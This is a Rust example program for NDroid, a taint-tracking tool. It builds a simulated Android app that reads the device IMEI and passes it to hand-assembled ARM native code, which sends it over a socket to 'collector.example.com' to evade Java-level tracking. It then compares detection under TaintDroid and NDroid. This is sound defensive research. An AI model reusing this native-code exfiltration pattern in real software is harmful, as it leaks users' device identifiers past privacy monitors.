//! Quickstart: build a tiny app with a Java→native→network leak, run
//! it under TaintDroid-only and under NDroid, and compare what each
//! one sees.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

fn build_app() -> Result<ndroid::apps::App, Box<dyn std::error::Error>> {
    let mut b = AppBuilder::new("quickstart", "IMEI -> native code -> socket");
    let class = b.class("Lquickstart/Main;");

    // --- The native method, in genuine ARM machine code -------------
    // void exfiltrate(String dest, String imei)
    let entry = b.asm.label();
    b.asm.bind(entry)?;
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R5, Reg::R1); // save imei jstring
    // dest_c = GetStringUTFChars(dest, NULL)
    b.asm.mov_imm(Reg::R1, 0)?;
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    // imei_c = GetStringUTFChars(imei, NULL)
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R1, 0)?;
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R5, Reg::R0);
    // fd = socket(); connect(fd, dest_c); send(fd, imei_c, strlen, 0)
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov(Reg::R1, Reg::R5);
    b.asm.mov_imm(Reg::R3, 0)?;
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let native = b.native_method(class, "exfiltrate", "VLL", true, entry);

    // --- The Java side, in Dalvik-style bytecode ---------------------
    let get_imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")?;
    let dest = b.string_const("collector.example.com");
    b.method(
        class,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: get_imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    Ok(b.finish("Lquickstart/Main;", "main")?)
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("=== NDroid quickstart ===\n");

    for mode in [Mode::TaintDroid, Mode::NDroid] {
        let sys = build_app()?.run(mode)?;
        println!("--- under {mode} ---");
        let network_log = sys.report().network_log;
        println!(
            "  network traffic: {} message(s) to {}",
            network_log.len(),
            network_log.first().map_or("-", |(d, _, _)| d)
        );
        match sys.leaks().first() {
            Some(leak) => println!(
                "  DETECTED: {} leaked to {} via {} [{}]",
                leak.taint.source_names().join(","),
                leak.dest,
                leak.sink,
                mode
            ),
            None => println!("  detected: nothing (the IMEI left the device unseen!)"),
        }
        println!();
    }

    println!("The data crossed the JNI boundary into native code, so only");
    println!("NDroid — which tracks taint through GetStringUTFChars, the");
    println!("instruction tracer and the send() sink — reports the leak.");
    Ok(())
}
